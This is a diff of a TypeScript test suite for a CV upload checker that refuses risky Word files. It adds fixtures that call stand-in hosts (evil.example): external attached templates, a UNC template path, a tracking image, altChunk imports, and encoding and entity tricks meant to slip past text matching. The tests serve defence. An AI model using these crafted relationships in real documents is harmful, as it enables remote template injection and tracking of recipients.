@@ -2,7 +2,13 @@
 import { randomBytes } from 'node:crypto';
 import { inspectCvArchive, MAX_CV_ENTRIES } from './cvArchive';
 import { checkCv } from './cvCheck';
-import { docxBomb, macroDocx, sampleDocx, windowsExecutable } from './testing/cvFixtures';
+import {
+  craftedCvs,
+  docxBomb,
+  macroDocx,
+  sampleDocx,
+  windowsExecutable,
+} from './testing/cvFixtures';
 import { writeZip } from './testing/zipWriter';
 import { readZipDirectory } from './zipDirectory';
 
@@ -21,7 +27,7 @@ const problemOf = (bytes: Buffer) => {
 };
 
 describe('a CV that is a Word file (DOCX)', () => {
-  it('is accepted as it comes from Word: text, a picture, printer settings, links to the web', () => {
+  it('is accepted as it comes from Word: text, a picture, printer settings, links to the web', async () => {
     const docx = sampleDocx(
       { name: 'word/media/image1.png', data: Buffer.from('\x89PNG\r\n\x1a\n....', 'latin1') },
       { name: 'word/printerSettings/printerSettings1.bin', data: Buffer.alloc(400, 0x20) },
@@ -31,7 +37,7 @@ describe('a CV that is a Word file (DOCX)', () => {
       },
     );
     expect(problemOf(docx)).toBe('accepted');
-    expect(checkCv({ name: 'Ana Horvat.docx', size: docx.length }, docx)).toEqual({
+    expect(await checkCv({ name: 'Ana Horvat.docx', size: docx.length }, docx)).toEqual({
       ok: true,
       kind: 'docx',
     });
@@ -97,9 +103,9 @@ describe('a CV that is a Word file (DOCX)', () => {
           data: writeZip([{ name: 'xl/macrosheets/sheet1.xml', data: '<xm/>' }]),
         }),
       ],
-    ])('%s', (_, bytes) => {
+    ])('%s', async (_, bytes) => {
       expect(problemOf(bytes)).toBe('activeContent');
-      expect(checkCv({ name: 'cv.docx', size: bytes.length }, bytes)).toEqual({
+      expect(await checkCv({ name: 'cv.docx', size: bytes.length }, bytes)).toEqual({
         ok: false,
         problem: 'activeContent',
       });
@@ -195,13 +201,164 @@ describe('a CV that is a Word file (DOCX)', () => {
       expect(problemOf(twice)).toBe('unsafeArchive');
     });
 
-    it('a ZIP cut short, without its directory, is not a Word file at all', () => {
+    it('a ZIP cut short, without its directory, is not a Word file at all', async () => {
       const cut = sampleDocx().subarray(0, 200);
       expect(problemOf(cut)).toBe('notZip');
-      expect(checkCv({ name: 'cv.docx', size: cut.length }, cut)).toEqual({
+      expect(await checkCv({ name: 'cv.docx', size: cut.length }, cut)).toEqual({
         ok: false,
         problem: 'badType',
       });
     });
+  });
+});
+
+/*
+ * Issue 38: these were matched as text and mailed to HR. Word parses each part as XML (decoded by its
+ * byte-order mark and declaration, namespaces resolved, character references expanded), so the
+ * check does too.
+ */
+describe('a Word file read as Word reads its XML', () => {
+  const relationshipsNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships';
+  const rels = (relationship: string, declaration = '<?xml version="1.0" encoding="UTF-8"?>') =>
+    `${declaration}<Relationships xmlns="${relationshipsNamespace}">${relationship}</Relationships>`;
+  const template =
+    'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+  const withPart = (name: string, data: string | Buffer) => sampleDocx({ name, data });
+
+  it.each([
+    ['a .rels part in UTF-16 with an external template', craftedCvs.utf16Relationships()],
+    ['TargetMode="&#69;xternal"', craftedCvs.characterReferenceTargetMode()],
+    ['a prefixed <pr:Relationship> with an external template', craftedCvs.prefixedRelationship()],
+    ['an RTF with an OLE object imported through altChunk', craftedCvs.altChunkRtf()],
+    [
+      'a .rels part in UTF-16 big-endian without a byte-order mark',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        Buffer.from(
+          Buffer.from(
+            rels(
+              `<Relationship Id="r" Type="${template}" Target="http://evil.example/t" TargetMode="External"/>`,
+              '<?xml version="1.0" encoding="UTF-16"?>',
+            ),
+            'utf16le',
+          ).swap16(),
+        ),
+      ),
+    ],
+    [
+      'an external relationship of any type but a hyperlink (a picture fetched on opening)',
+      withPart(
+        'word/_rels/document.xml.rels',
+        rels(
+          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.example/track.png" TargetMode="External"/>',
+        ),
+      ),
+    ],
+    [
+      'a network path as an internal target',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        rels(`<Relationship Id="r" Type="${template}" Target="\\\\evil.example\\t.dotm"/>`),
+      ),
+    ],
+    [
+      'TargetMode spelled with spaces and in other case',
+      withPart(
+        'word/_rels/settings.xml.rels',
+        rels(`<Relationship Id="r" Type="${template}" Target="t.dotm" TargetMode=" external "/>`),
+      ),
+    ],
+    [
+      'an altChunk relationship alone',
+      withPart(
+        'word/_rels/document.xml.rels',
+        rels(
+          '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="part.dat"/>',
+        ),
+      ),
+    ],
+    ['an RTF part by its name', withPart('word/afchunk.rtf', '{\\rtf1 Ana}')],
+    ['an MHT part by its name', withPart('word/afchunk.mht', 'MIME-Version: 1.0')],
+    ['an HTML part by its name', withPart('word/afchunk.HTML', '<html></html>')],
+    [
+      'an imported content type',
+      withPart(
+        '[Content_Types].xml',
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="dat" ContentType="application/rtf"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+      ),
+    ],
+  ])('%s is refused', async (_, bytes) => {
+    expect(problemOf(bytes)).toBe('activeContent');
+    expect(await checkCv({ name: 'cv.docx', size: bytes.length }, bytes)).toEqual({
+      ok: false,
+      problem: 'activeContent',
+    });
+  });
+
+  it.each([
+    [
+      'a DTD, which OPC forbids (and which could expand entities)',
+      withPart(
+        'word/_rels/document.xml.rels',
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>' +
+          `<Relationships xmlns="${relationshipsNamespace}"><Relationship Id="r" Type="${template}" Target="t" TargetMode="&e;"/></Relationships>`,
+      ),
+    ],
+    [
+      'a declaration that contradicts the bytes (UTF-8 saying UTF-16)',
+      withPart('word/_rels/document.xml.rels', rels('', '<?xml version="1.0" encoding="UTF-16"?>')),
+    ],
+    [
+      'an encoding OPC does not allow',
+      withPart(
+        'word/_rels/document.xml.rels',
+        rels('', '<?xml version="1.0" encoding="ISO-8859-1"?>'),
+      ),
+    ],
+    [
+      'UTF-32',
+      withPart(
+        'word/_rels/document.xml.rels',
+        Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.alloc(16)]),
+      ),
+    ],
+    [
+      'bytes that are not UTF-8',
+      withPart('word/styles.xml', Buffer.from([0x3c, 0x61, 0xff, 0x2f, 0x3e])),
+    ],
+    [
+      'XML that is not well formed',
+      withPart('word/_rels/document.xml.rels', '<Relationships><Relationship'),
+    ],
+    ['a prefix bound to nothing', withPart('word/_rels/document.xml.rels', '<pr:Relationships/>')],
+  ])('%s is refused as unreadable', (_, bytes) => {
+    expect(problemOf(bytes)).toBe('unsafeArchive');
+  });
+
+  it('accepts what Word writes: hyperlinks out, internal parts, UTF-16 parts, prefixes', () => {
+    const hyperlink =
+      'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink';
+    const docx = sampleDocx(
+      {
+        name: 'word/_rels/document.xml.rels',
+        data: Buffer.concat([
+          Buffer.from([0xff, 0xfe]),
+          Buffer.from(
+            rels(
+              `<Relationship Id="r1" Type="${hyperlink}" Target="https://www.linkedin.com/in/ana" TargetMode="External"/>` +
+                '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>' +
+                '<Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png" TargetMode="Internal"/>',
+              '<?xml version="1.0" encoding="UTF-16"?>',
+            ),
+            'utf16le',
+          ),
+        ]),
+      },
+      {
+        name: 'word/styles.xml',
+        data: '\ufeff<?xml version="1.0" encoding="utf-8"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
+      },
+    );
+    expect(problemOf(docx)).toBe('accepted');
   });
 });
